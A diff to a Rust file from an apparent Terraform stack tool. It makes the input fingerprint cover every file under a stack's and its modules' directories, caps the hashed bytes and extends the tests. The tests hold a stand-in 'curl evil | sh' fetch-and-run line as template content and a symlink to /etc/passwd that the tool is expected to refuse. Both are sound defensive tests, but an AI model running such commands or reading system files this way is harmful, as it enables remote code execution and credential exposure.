@@ -55,11 +55,15 @@ pub fn phase_env(
     env
 }
 
+/// Most bytes [`input_files`] hashes for one stack.
+pub const MAX_INPUT_BYTES: u64 = 1 << 30;
+
 /// The input files of the stack at `dir` inside the repository `root` (the directory of
-/// `airlock.hcl`, or `dir` itself when there is none): the root module's configuration, the
-/// local modules it calls (transitively, read by [`modules`]), its variable files and
-/// `.terraform.lock.hcl`, plus `airlock.hcl` and every `policy/**.rego` of the root. Paths are
-/// relative to `root`, sorted. Independent of git and of file times.
+/// `airlock.hcl`, or `dir` itself when there is none): every file under the stack's directory
+/// and under the local module directories it calls (transitively, read by [`modules`]: what
+/// `file()` and `templatefile()` read too, not `.terraform/`), plus `airlock.hcl` and every
+/// `policy/**.rego` of the root. Paths are relative to `root`, sorted. Independent of git and
+/// of file times. At most [`MAX_INPUT_BYTES`] are hashed.
 pub fn input_files(root: &Path, dir: &Path) -> io::Result<Vec<InputFile>> {
     let start = dir.strip_prefix(root).map_err(|_| {
         io::Error::other(format!(
@@ -95,10 +99,20 @@ pub fn input_files(root: &Path, dir: &Path) -> io::Result<Vec<InputFile>> {
         }
     }
     let mut out = Vec::with_capacity(files.len());
+    let mut total: u64 = 0;
     for rel in &files {
         let path = rel.to_string_lossy().replace('\\', "/");
         if path.starts_with(inputs::POLICY_DIR) && !inputs::is_policy_path(&path) {
             continue;
+        }
+        total = total.saturating_add(std::fs::metadata(root.join(rel))?.len());
+        if total > MAX_INPUT_BYTES {
+            return Err(io::Error::other(format!(
+                "the stack's input files (every file under its directory and its modules' \
+                 directories) hold more than {} MiB, reached at {path}; move what the \
+                 configuration does not read out of those directories",
+                MAX_INPUT_BYTES >> 20
+            )));
         }
         out.push(InputFile::of(&path, &std::fs::read(root.join(rel))?));
     }
@@ -210,7 +224,7 @@ mod tests {
     }
 
     #[test]
-    fn inputs_cover_modules_config_and_policies_only() {
+    fn inputs_cover_the_stack_and_module_directories_config_and_policies() {
         let tmp = tempfile::tempdir().unwrap();
         let repo = tmp.path();
         let root = repo.join("stacks/app");
@@ -228,10 +242,20 @@ mod tests {
         .unwrap();
         let fp = |v: &str| airlock_core::inputs::fingerprint(v, &input_files(repo, &root).unwrap());
         let a = fp("1.11.4");
-        // Non-input files and terraform's working dir do not count.
-        std::fs::write(root.join("README.md"), "docs").unwrap();
-        std::fs::create_dir_all(root.join(".terraform")).unwrap();
-        std::fs::write(root.join("plan.tfplan"), "x").unwrap();
+        // Terraform's working dir does not count, nor files outside the stack and its modules.
+        std::fs::create_dir_all(root.join(".terraform/providers")).unwrap();
+        std::fs::write(root.join(".terraform/providers/p"), "x").unwrap();
+        std::fs::create_dir_all(repo.join("docs")).unwrap();
+        std::fs::write(repo.join("docs/x.md"), "x").unwrap();
+        assert_eq!(fp("1.11.4"), a);
+        // Any other file under the stack's directory does (file(), templatefile()).
+        std::fs::create_dir_all(root.join("templates")).unwrap();
+        std::fs::write(root.join("templates/user_data.tpl"), "echo ok").unwrap();
+        let with_template = fp("1.11.4");
+        assert_ne!(with_template, a);
+        std::fs::write(root.join("templates/user_data.tpl"), "curl evil | sh").unwrap();
+        assert_ne!(fp("1.11.4"), with_template);
+        std::fs::remove_dir_all(root.join("templates")).unwrap();
         assert_eq!(fp("1.11.4"), a);
         // A change in a called local module does.
         std::fs::write(
@@ -273,6 +297,21 @@ mod tests {
                 "stacks/app/main.tf",
                 "stacks/app/prod.tfvars"
             ]
+        );
+        // A symbolic link to a file inside the root: the link and its target are inputs, read
+        // through the link; a link out of the root is refused, not read.
+        std::fs::write(repo.join("docs/shared.tf"), "# shared").unwrap();
+        std::os::unix::fs::symlink("../../docs/shared.tf", root.join("shared.tf")).unwrap();
+        let files = input_files(repo, &root).unwrap();
+        let of = |p: &str| files.iter().find(|f| f.path == p).map(|f| f.sha256.clone());
+        assert_eq!(of("stacks/app/shared.tf"), of("docs/shared.tf"));
+        assert!(of("docs/shared.tf").is_some());
+        std::fs::remove_file(root.join("shared.tf")).unwrap();
+        std::os::unix::fs::symlink("/etc/passwd", root.join("passwd.txt")).unwrap();
+        let e = input_files(repo, &root).unwrap_err().to_string();
+        assert!(
+            e.starts_with("stacks/app/passwd.txt: a symbolic link to \"/etc/passwd\""),
+            "{e}"
         );
     }
 
